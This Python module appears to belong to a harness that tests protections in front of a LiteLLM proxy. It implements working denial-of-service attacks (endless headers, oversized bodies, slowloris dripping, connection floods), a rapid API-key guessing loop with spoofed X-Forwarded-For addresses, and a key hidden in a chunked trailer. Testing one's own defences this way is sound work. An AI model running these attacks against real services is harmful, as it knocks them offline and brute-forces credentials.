"""The attacks: one function for each. It returns what it achieved; `Attack.succeeded` judges that."""

from __future__ import annotations

import asyncio
import ipaddress
import itertools
import time
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass, field

from .target import PIECE, Bounds, Link, Target, clock

_CHAT = "/v1/chat/completions"
_WRONG = "Authorization: Bearer sk-wrong-9f8e7d6c5b4a3210"
#: Headers and paths of requests with a body. The last path is LiteLLM's login, which needs no key.
_BODIES = (("", _CHAT), (_WRONG, _CHAT), ("", "/v2/login"))
#: Pages and lists of LiteLLM that answer without a key.
_PAGES = ("/openapi.json", "/redoc", "/", "/routes", "/ui/", "/sso/key/generate", "/public/model_hub")
#: Seconds for an answer or the end of a connection, after the last byte of an attack.
_GRACE = 1.0
#: Bytes of headers on one connection. Twice as many cost a parser without limits four times as much.
_HEADERS = 16 * 2**20
#: Seconds between two attempts on one connection.
_PAUSE = 0.01
#: Connections that are opened at the same time.
_AT_ONCE = 20
#: Seconds between two bytes of a slow request.
_DRIP = 0.5
#: 198.18.0.0, the first of the addresses for benchmarks (RFC 2544).
_FIRST_ADDRESS = 0xC6120000
#: Answers to guesses per second. A service without protection gives about 1,000.
_GUESSES = 100


@dataclass(slots=True)
class Outcome:
    """What an attack achieved.

    Attributes:
        opened: connections that were accepted.
        refused: connections that were not accepted, or were closed or reset before anything was sent.
        held: connections that were still open at the end.
        most_sent: bytes that the service took on one connection.
        taken: requests of which the service took everything, however large, and kept the connection open.
        answers: the number of answers by status. 0: closed without an answer.
        seconds: from the first connection to the end.
        slowest: seconds of the slowest answer.
    """

    opened: int = 0
    refused: int = 0
    held: int = 0
    most_sent: int = 0
    taken: int = 0
    answers: dict[int, int] = field(default_factory=dict)
    seconds: float = 0.0
    slowest: float = 0.0

    def note(self, status: int, since: float) -> None:
        self.answers[status] = self.answers.get(status, 0) + 1
        self.slowest = max(self.slowest, time.monotonic() - since)


Run = Callable[[Target, Bounds, str], Awaitable[Outcome]]


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack. `about` says what it does, `succeeded` whether it had the effect that a protection prevents."""

    run: Run
    about: str
    succeeded: Callable[[Outcome], bool]


async def request_pages(target: Target, bounds: Bounds, key: str) -> Outcome:
    """Four clients request the documentation and the public lists, again and again."""
    outcome, left = Outcome(), clock(bounds.seconds)

    async def client(first: int) -> None:
        for path in itertools.islice(itertools.cycle(_PAGES), first, None):
            if not left():
                return
            # An answer to / is no effect: the service has a line of text there.
            noted = Outcome() if path == "/" else outcome
            link = await _connect(target, noted)
            if link is not None:
                begin = time.monotonic()
                await link.send(_request("GET", path))
                noted.note(await link.answer(left() + _GRACE), begin)
                _finish(link, noted)

    await asyncio.gather(*(client(number) for number in range(bounds.connections or 4)))
    return outcome


async def send_endless_header(target: Target, bounds: Bounds, key: str) -> Outcome:
    """One header without an end."""
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Endless: "
    return await _send_endless(target, bounds, [(head, b"a" * PIECE)], _HEADERS)


async def send_endless_headers(target: Target, bounds: Bounds, key: str) -> Outcome:
    """One header without an end on each of four connections."""
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Endless: "
    return await _send_endless(target, bounds, [(head, b"a" * PIECE)] * 4, _HEADERS // 2)


async def send_many_headers(target: Target, bounds: Bounds, key: str) -> Outcome:
    piece = b"X-Header: 0123456789\r\n" * (PIECE // 22)
    return await _send_endless(target, bounds, [(b"GET / HTTP/1.1\r\nHost: localhost\r\n", piece)], _HEADERS // 2)


async def send_large_bodies(target: Target, bounds: Bounds, key: str) -> Outcome:
    """Large bodies on all paths of `_BODIES`, with a length and in chunks, at the same time."""
    piece = b"x" * PIECE
    requests = []
    for credential, path in _BODIES:
        requests.append((_request("POST", path, credential, f"Content-Length: {bounds.bytes}"), piece))
        chunked = _request("POST", path, credential, "Transfer-Encoding: chunked")
        requests.append((chunked, b"%x\r\n%s\r\n" % (PIECE, piece)))
    return await _send_endless(target, bounds, requests, bounds.bytes)


async def hold_silent(target: Target, bounds: Bounds, key: str) -> Outcome:
    return await _hold(target, bounds, 2000, b"", b"")


async def drip_headers(target: Target, bounds: Bounds, key: str) -> Outcome:
    """Send a header byte by byte on many connections."""
    return await _hold(target, bounds, 500, b"GET / HTTP/1.1\r\nX-Slow: ", b"a")


async def drip_bodies(target: Target, bounds: Bounds, key: str) -> Outcome:
    """Send a body byte by byte on many connections."""
    return await _hold(target, bounds, 500, _request("POST", _CHAT, _WRONG, "Content-Length: 100000"), b"x")


async def flood_with_connections(target: Target, bounds: Bounds, key: str) -> Outcome:
    """Open connections as fast as possible, and reset each one at once."""
    outcome, left = Outcome(), clock(bounds.seconds)

    async def client() -> None:
        while left():
            link = await _connect(target, outcome)
            if link is not None:
                link.close()

    await asyncio.gather(*(client() for _ in range(bounds.connections or 64)))
    return outcome


async def guess_keys(target: Target, bounds: Bounds, key: str) -> Outcome:
    """Try one key after the other as fast as the service answers."""
    outcome, left, numbers = Outcome(), clock(bounds.seconds), itertools.count()

    async def client() -> None:
        link = None
        while left():
            if link is None or not link.is_open:
                link = await _connect(target, outcome)
                if link is None:
                    await asyncio.sleep(0.05)
                    continue
            begin = time.monotonic()
            link.next_answer()
            number = next(numbers)
            address = f"X-Forwarded-For: {ipaddress.ip_address(_FIRST_ADDRESS + number)}" if target.forwarded else ""
            guess = f"Authorization: Bearer sk-guess-{number:020}"
            await link.send(_request("GET", "/v1/models", guess, address))
            if status := await link.answer(left()):
                outcome.note(status, begin)
        if link is not None:
            _finish(link, outcome)

    await asyncio.gather(*(client() for _ in range(bounds.connections or 64)))
    return outcome


async def disconnect_in_body(target: Target, bounds: Bounds, key: str) -> Outcome:
    """Send half of a body, and disconnect: without a key, with a wrong key, and where no key is needed."""
    outcome, left = Outcome(), clock(bounds.seconds)
    for credential, path in itertools.islice(itertools.cycle(_BODIES), bounds.connections or 40):
        link = await _connect(target, outcome)
        if link is not None and left():
            await link.send(_request("POST", path, credential, "Content-Length: 1000") + b"{" * 500)
            await asyncio.sleep(0.02)
            _finish(link, outcome)
    return outcome


async def send_key_in_trailer(target: Target, bounds: Bounds, key: str) -> Outcome:
    """Send a key that is right in the trailer of a chunked body, in one packet and in several."""
    outcome = Outcome()
    body = b'{"model": "demo", "messages": [{"role": "user", "content": "hi"}]}'
    head = _request("POST", _CHAT, "Transfer-Encoding: chunked")
    chunks = b"%x\r\n%s\r\n0\r\n" % (len(body), body)
    for name in ("Authorization: Bearer ", "x-api-key: "):
        trailer = f"{name}{key}\r\n\r\n".encode()
        for parts in ((head + chunks + trailer,), (head, chunks, trailer), (head + chunks, trailer)):
            link = await _connect(target, outcome)
            if link is None:
                continue
            begin = time.monotonic()
            for part in parts:
                await link.send(part)
                await asyncio.sleep(0.02)
            outcome.note(await link.answer(bounds.seconds), begin)
            _finish(link, outcome)
    return outcome


def _has_answered(outcome: Outcome) -> bool:
    return 200 in outcome.answers


def _has_held(outcome: Outcome) -> bool:
    """Whether the service holds most of the connections."""
    return outcome.held * 2 > outcome.opened + outcome.refused


def _has_sent_all(outcome: Outcome) -> bool:
    return outcome.taken > 0


def _has_guessed(outcome: Outcome) -> bool:
    return sum(outcome.answers.values()) > _GUESSES * outcome.seconds


def _is_unknown(_: Outcome) -> bool:
    """The effect shows elsewhere: in the journal, or in the time that other clients wait."""
    return False


ATTACKS = {
    "pages": Attack(request_pages, "four clients request /openapi.json and other public pages", _has_answered),
    "endless-header": Attack(send_endless_header, "one connection sends a header without an end", _has_sent_all),
    "endless-headers": Attack(send_endless_headers, "four connections send a header without an end", _has_sent_all),
    "many-headers": Attack(send_many_headers, "one connection sends headers without an end", _has_sent_all),
    "large-bodies": Attack(send_large_bodies, "six connections send a large body", _has_sent_all),
    "silent": Attack(hold_silent, "2,000 connections send nothing", _has_held),
    "slow-headers": Attack(drip_headers, "500 connections send a header byte by byte", _has_held),
    "slow-bodies": Attack(drip_bodies, "500 connections send a body byte by byte", _has_held),
    "flood": Attack(flood_with_connections, "connections are opened and reset as fast as possible", _is_unknown),
    "guesses": Attack(guess_keys, "64 connections try keys as fast as possible", _has_guessed),
    "disconnect": Attack(disconnect_in_body, "clients disconnect in the middle of a body", _is_unknown),
    "trailer": Attack(send_key_in_trailer, "the right key is in a trailer", _has_answered),
}


async def run(names: Iterable[str], target: Target, bounds: Bounds, key: str = "") -> dict[str, Outcome]:
    """Run attacks of `ATTACKS` at the same time. Returns the outcome of each."""

    async def run_one(name: str) -> tuple[str, Outcome]:
        begin = time.monotonic()
        outcome = await ATTACKS[name].run(target, bounds, key)
        outcome.seconds = time.monotonic() - begin
        return name, outcome

    return dict(await asyncio.gather(*map(run_one, names)))


# --- parts of attacks ---


def _request(method: str, path: str, *headers: str) -> bytes:
    sent = [each for each in headers if each]
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", *sent, "", ""]).encode()


async def _connect(target: Target, outcome: Outcome) -> Link | None:
    try:
        link = await target.connect()
    except (OSError, asyncio.TimeoutError):
        outcome.refused += 1
        return None
    outcome.opened += 1
    return link


def _finish(link: Link, outcome: Outcome) -> None:
    outcome.held += link.is_open
    outcome.most_sent = max(outcome.most_sent, link.sent)
    link.close()


async def _send_endless(
    target: Target, bounds: Bounds, requests: Iterable[tuple[bytes, bytes]], most: int
) -> Outcome:
    """Send a head and then pieces, up to `most` bytes, on a connection for each request, again if it closes."""
    outcome, left, most = Outcome(), clock(bounds.seconds), min(most, bounds.bytes)

    async def client(head: bytes, piece: bytes) -> None:
        while left():
            link = await _connect(target, outcome)
            if link is not None:
                begin = time.monotonic()
                await link.send(head)
                while left() and link.sent < most and await link.send(piece):
                    pass
                outcome.note(await link.answer(_GRACE), begin)
                is_taken = link.is_open and link.sent >= most
                outcome.taken += is_taken
                _finish(link, outcome)
                if is_taken:
                    return
            await asyncio.sleep(_PAUSE)

    await asyncio.gather(*(client(*each) for each in requests))
    return outcome


async def _hold(target: Target, bounds: Bounds, connections: int, head: bytes, drip: bytes) -> Outcome:
    """Open connections, and then hold them for `bounds.seconds`, with a byte on each of them now and then.

    It ends earlier if the service closes all of them.
    """
    outcome, left, begin = Outcome(), clock(bounds.seconds), time.monotonic()
    links = []

    async def open_some(number: int) -> None:
        for _ in range(number):
            if left() and (link := await _connect(target, outcome)):
                links.append(link)
                await link.send(head)

    count = bounds.connections or connections
    await asyncio.gather(*(open_some(count // _AT_ONCE) for _ in range(_AT_ONCE)))
    left = clock(bounds.seconds)
    while left() and any(link.is_open for link in links):
        await asyncio.sleep(min(_DRIP, left()))
        for link in links:
            await link.send(drip)
    for link in links:
        if link.status:
            outcome.note(link.status, begin)
        _finish(link, outcome)
    return outcome
